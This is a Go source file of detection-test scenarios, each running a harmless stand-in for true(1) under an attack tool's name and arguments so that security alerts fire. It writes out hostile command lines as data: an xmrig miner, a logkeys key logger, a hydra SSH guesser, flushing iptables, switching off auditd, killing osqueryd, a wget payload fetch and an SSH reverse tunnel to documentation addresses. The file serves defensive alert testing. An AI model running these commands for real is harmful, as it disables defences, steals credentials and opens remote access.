package simulate

// The scenarios of this file run a stand-in, a copy of true(1), under the name
// and with the arguments of the tool that the alert is about.

const harmless = "The program is a copy of true(1) and does nothing."

var miner = Scenario{
	Name:      "miner",
	Title:     "a miner is started",
	AlertType: "VM_DigitalCurrencyMining",
	Summary:   "Runs a program named xmrig with the options of a miner. " + harmless,
	Run:       standIn("xmrig", "-o", "stratum+tcp://192.0.2.1:3333", "-u", "{token}", "--donate-level", "1"),
}

var credentialTool = Scenario{
	Name:      "credential-tool",
	Title:     "a key logger is started",
	AlertType: "VM_KnownLinuxCredentialAccessTool",
	Summary:   "Runs a program named logkeys with its start option. " + harmless,
	Run:       standIn("logkeys", "--start", "--output", "{dir}/keys"),
}

var credentialToolMissing = Scenario{
	Name:      "credential-tool-missing",
	Title:     "a key logger is called that is not installed",
	AlertType: "VM_KnownLinuxCredentialAccessTool",
	Summary: "Runs what a shell runs when a command does not exist: a helper named command-not-found, with " +
		"logkeys as its argument. " + harmless,
	Run: standIn("command-not-found", "--", "logkeys"),
}

var credentialToolRefused = Scenario{
	Name:      "credential-tool-refused",
	Title:     "a key logger is started that is not there",
	AlertType: "VM_KnownLinuxCredentialAccessTool",
	Summary:   "Tells a shell to run a program named logkeys in an empty directory. The kernel finds no such file.",
	Run:       command("sh", "-c", "{dir}/logkeys --start; exec true"),
}

var attackTool = Scenario{
	Name:      "attack-tool",
	Title:     "a password guesser is started",
	AlertType: "VM_KnownLinuxAttackTool",
	Summary:   "Runs a program named hydra against an address of the documentation. " + harmless,
	Run:       standIn("hydra", "-l", "{token}", "-P", "{dir}/words", "192.0.2.1", "ssh"),
}

var attackToolMissing = Scenario{
	Name:      "attack-tool-missing",
	Title:     "a denial-of-service script is called that is not there",
	AlertType: "VM_KnownLinuxAttackTool",
	Summary:   "Tells perl to run slowloris.pl in an empty directory. Perl finds no such file and ends.",
	Needs:     []Need{NeedProgram("perl")},
	Run:       command("perl", "slowloris.pl", "-dns", "{token}.invalid"),
}

var firewallFlushed = Scenario{
	Name:      "firewall-flushed",
	Title:     "the packet filter is emptied",
	AlertType: "VM_FirewallDisabled",
	Summary:   "Runs a program named iptables with -F. " + harmless,
	Run:       standIn("iptables", "-F"),
}

var auditDisabled = Scenario{
	Name:      "audit-disabled",
	Title:     "the audit system is switched off",
	AlertType: "HF_AuditdDisabled",
	Summary:   "Runs a program named auditctl with -e 0. " + harmless,
	Run:       standIn("auditctl", "-e", "0"),
}

var updateTimerStopped = Scenario{
	Name:      "update-timer-stopped",
	Title:     "automatic updates are switched off",
	AlertType: "VM_TimerServiceDisabled",
	Summary:   "Runs a program named systemctl that is told to stop the timer of updates. " + harmless,
	Run:       standIn("systemctl", "stop", "apt-daily-upgrade.timer"),
}

var securityProcessKilled = Scenario{
	Name:      "security-process-killed",
	Title:     "an endpoint sensor is killed",
	AlertType: "VM_SuspectProcessTermination",
	Summary:   "Runs a program named pkill that is told to kill osqueryd. " + harmless,
	Run:       standIn("pkill", "-9", "osqueryd"),
}

var suspiciousDownload = Scenario{
	Name:      "suspicious-download",
	Title:     "a file is fetched from a bare address",
	AlertType: "VM_SuspectDownloadArtifacts",
	Summary:   "Runs a program named wget with an address of the documentation. " + harmless,
	Run:       standIn("wget", "http://192.0.2.7/{token}.bin"),
}

var testFileDownload = Scenario{
	Name:      "test-file-download",
	Title:     "the antivirus test file is fetched",
	AlertType: "VM_SuspectDownloadArtifacts",
	Summary:   "Runs a program named wget with the path of the EICAR test file at an address of the documentation. " + harmless,
	Run:       standIn("wget", "http://192.0.2.9/download/eicar.com", "-O", "{dir}/eicar.com"),
}

var suspiciousCompilation = Scenario{
	Name:      "suspicious-compilation",
	Title:     "an exploit is compiled",
	AlertType: "VM_SuspectCompilation",
	Summary:   "Runs a program named gcc on a source file named after a vulnerability, which does not exist. " + harmless,
	Run:       standIn("gcc", "-o", "{dir}/a", "CVE-2021-4034-{token}.c"),
}

var privilegedContainer = Scenario{
	Name:      "privileged-container",
	Title:     "a privileged container is started",
	AlertType: "VM_PrivilegedContainerArtifacts",
	Summary:   "Runs a program named docker with run --privileged. " + harmless,
	Run:       standIn("docker", "run", "--rm", "--privileged", "{token}:none"),
}

var reverseForwarding = Scenario{
	Name:      "reverse-forwarding",
	Title:     "a tunnel to the outside is opened",
	AlertType: "VM_SuspectPortForwarding",
	Summary:   "Runs a program named ssh with reverse forwarding to an address of the documentation. " + harmless,
	Run:       standIn("ssh", "-N", "-R", "2222:localhost:22", "{token}@192.0.2.7"),
}
